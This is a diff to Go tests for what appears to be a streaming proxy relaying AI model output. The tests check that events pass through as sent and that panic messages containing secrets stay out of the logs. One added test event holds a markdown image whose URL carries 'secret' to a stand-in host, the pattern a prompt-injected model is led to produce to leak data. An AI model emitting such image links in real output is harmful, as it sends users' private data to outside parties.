@@ -78,7 +78,8 @@ func expect(t *testing.T, events chan<- string, r *bufio.Reader, event string) {
 	}
 }
 
-// Head and events of a stream arrive as they are sent.
+// Head and events of a stream arrive as they are sent, whatever the model was led to write
+// (T08).
 func TestStreamsEventByEvent(t *testing.T) {
 	u, events, _, _ := streamer(t)
 	g := open(t, u, nil)
@@ -89,6 +90,7 @@ func TestStreamsEventByEvent(t *testing.T) {
 	for i := range 5 {
 		expect(t, events, r, fmt.Sprintf("data: {\"n\":%d}\n\n", i))
 	}
+	expect(t, events, r, `data: {"choices":[{"delta":{"content":"![x](https://elsewhere.test/?told=secret)"}}]}`+"\n\n")
 	close(events)
 	if rest, err := io.ReadAll(r); err != nil || len(rest) > 0 {
 		t.Errorf("after the end: %q, %v", rest, err)
@@ -188,7 +190,7 @@ func TestShutdown(t *testing.T) {
 	}
 }
 
-// T28: the text of a panic goes to the log with its stack, not to the client, and the next
+// T28: that a bug panicked goes to the log with its stack, what it said to nobody, and the next
 // request is served.
 func TestPanicIsOneRequests(t *testing.T) {
 	u := newUpstream(t, answerJSON("{}"))
@@ -209,7 +211,7 @@ func TestPanicIsOneRequests(t *testing.T) {
 	if rep := g.reports.next(t); rep.Outcome != report.Failed || rep.Reason != report.ReasonInternal {
 		t.Errorf("report %s, %s", rep.Outcome, rep.Reason)
 	}
-	if log := g.log.take(); !strings.Contains(log, "inner secret") || !strings.Contains(log, "stack=") || strings.Contains(log, "parental") {
+	if log := g.log.take(); !strings.Contains(log, "BUG: panic") || strings.Contains(log, "secret") || !strings.Contains(log, "TestPanicIsOneRequests") || strings.Contains(log, "parental") {
 		t.Errorf("log: %s", log)
 	}
 	bug = false
@@ -256,7 +258,7 @@ func TestPanicInRecorder(t *testing.T) {
 	if err := <-served; err != nil {
 		t.Error(err)
 	}
-	if said := log.take(); strings.Count(said, "inner secret") != 2 || !strings.Contains(said, "stack=") {
+	if said := log.take(); strings.Count(said, "BUG: panic") != 2 || strings.Contains(said, "secret") || !strings.Contains(said, "stack=") {
 		t.Errorf("log: %s", said)
 	}
 }
